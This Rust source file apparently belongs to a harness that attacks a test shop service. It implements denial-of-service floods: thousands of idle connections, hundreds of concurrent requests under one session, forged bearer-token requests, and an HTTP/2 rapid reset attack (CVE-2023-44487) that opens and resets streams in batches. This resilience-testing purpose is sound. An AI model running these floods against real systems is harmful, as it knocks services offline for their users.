//! Floods of connections that send nothing, of requests under one session, of forged service tokens, and of streams.

use std::{sync::Arc, time::Duration};

use tokio::time::sleep;

use super::Attacker;
use crate::attack::wire::{Connection, Http2, client, frames};

const IDLE_CONNECTIONS: u32 = 5000;
const SESSION_REQUESTS: u32 = 600;
const TOKEN_WORKERS: u32 = 16;
/// The pause after a closed connection or a failed request: the number of open connections and requests matters to
/// these attacks, not their rate.
const REPEAT_DELAY: Duration = Duration::from_secs(1);
/// The pause of a worker between two tokens: some 1 600 requests a second, which leaves enough of the machine to the
/// customers.
const TOKEN_DELAY: Duration = Duration::from_millis(10);
const RESETTING_CONNECTIONS: u32 = 10;
/// The number of streams of a batch, and the interval between two batches.
const BATCH_SIZE: u32 = 100;
const BATCH_INTERVAL: Duration = Duration::from_millis(100);
const RECONNECT_DELAY: Duration = Duration::from_millis(100);
/// The largest stream id that rapid resets use on a connection.
const MAX_STREAM_ID: u32 = 1 << 30;

/// Holds connections at every entrance. Over TLS, every other one completes the handshake first.
pub async fn idle(attacker: Arc<Attacker>) {
    attacker
        .repeat(IDLE_CONNECTIONS, REPEAT_DELAY, |attacker, number| async move {
            let entrances = attacker.entrances.all();
            let target = entrances[number as usize % entrances.len()];
            // `number % 3` chooses the entrance, so this choice must not depend on it.
            let is_raw = number / 3 % 2 == 0;
            let opened = if is_raw {
                Connection::raw(&attacker, target).await
            } else {
                Connection::open(&attacker, target).await
            };
            if let Ok(mut connection) = opened {
                connection.wait_for_close().await;
            }
        })
        .await;
}

/// Keeps many requests of one session in flight.
pub async fn one_session(attacker: Arc<Attacker>) {
    let Some(http) = client(&attacker.entrances.order) else { return };
    attacker
        .repeat(SESSION_REQUESTS, REPEAT_DELAY, move |attacker, _| {
            let http = http.clone();
            async move {
                let _place = attacker.place();
                let url = format!("{}/api/v1/orders?limit=100", attacker.entrances.order.url);
                loop {
                    attacker.has_sent(1);
                    let request = http.get(&url).header("X-Session-Uuid", &attacker.account.session);
                    match request.send().await {
                        Ok(response) if response.status().is_success() => drop(response.bytes().await),
                        _ => {
                            attacker.was_refused();
                            sleep(REPEAT_DELAY).await;
                        }
                    }
                }
            }
        })
        .await;
}

/// Sends forged service tokens, each of which the shop refuses and records.
pub async fn tokens(attacker: Arc<Attacker>) {
    let Some(http) = client(&attacker.entrances.order) else { return };
    attacker
        .repeat(TOKEN_WORKERS, TOKEN_DELAY * 10, move |attacker, _| {
            let http = http.clone();
            async move {
                let _place = attacker.place();
                let url = format!("{}/api/v1/orders", attacker.entrances.order.url);
                while http.get(&url).header("Authorization", "Bearer x").send().await.is_ok() {
                    attacker.has_sent(1);
                    attacker.was_refused();
                    sleep(TOKEN_DELAY).await;
                }
            }
        })
        .await;
}

/// HTTP/2 rapid reset (CVE-2023-44487): streams are opened and reset at once, so they never count as concurrent.
pub async fn rapid_resets(attacker: Arc<Attacker>) {
    attacker
        .repeat(RESETTING_CONNECTIONS, RECONNECT_DELAY, |attacker, _| async move {
            let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
            let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
            let mut begun = 0;
            connection
                .drive(|| {
                    let streams = (begun..begun + BATCH_SIZE).map(|number| number * 2 + 1);
                    let bytes: Vec<u8> = streams
                        .flat_map(|stream| [frames::headers(stream, &block), frames::reset(stream)].concat())
                        .collect();
                    begun += BATCH_SIZE;
                    let goes_on = begun < MAX_STREAM_ID;
                    attacker.has_sent(BATCH_SIZE.into());
                    async move {
                        sleep(BATCH_INTERVAL).await;
                        goes_on.then_some(bytes)
                    }
                })
                .await;
        })
        .await;
}
